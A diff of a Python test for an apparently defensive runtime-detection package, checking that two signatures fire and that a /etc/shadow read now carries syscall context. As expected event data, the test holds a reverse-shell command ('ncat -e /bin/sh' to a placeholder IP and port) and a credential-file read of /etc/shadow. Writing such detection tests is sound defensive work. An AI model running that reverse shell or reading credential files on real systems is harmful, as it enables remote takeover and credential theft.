@@ -188,7 +188,10 @@ def test_installed_package_detects_its_events(installed_package: Path) -> None:
     found = findings(proc)
     assert Counter(f["SigMetadata"]["ID"] for f in found) == {"EX-1": 1, "EX-2": 1}
     by_id = {f["SigMetadata"]["ID"]: f for f in found}
-    assert by_id["EX-1"]["Data"] == {"path": "/etc/shadow", "uid": 1000}
+    shadow = by_id["EX-1"]["Data"]
+    # on an LSM event, with the syscall behind it (the built-in syscall context)
+    assert shadow.pop("syscall_event")["args"]["pathname"] == "/etc/shadow"
+    assert shadow == {"path": "/etc/shadow", "uid": 1000}
     assert by_id["EX-2"]["Data"] == {"tool": "ncat", "command": "ncat -e /bin/sh 203.0.113.7 4444"}
     assert by_id["EX-2"]["Context"]["container"]["name"] == "nginx"
     # Without the package the same events are quiet: the benign ones really are benign.
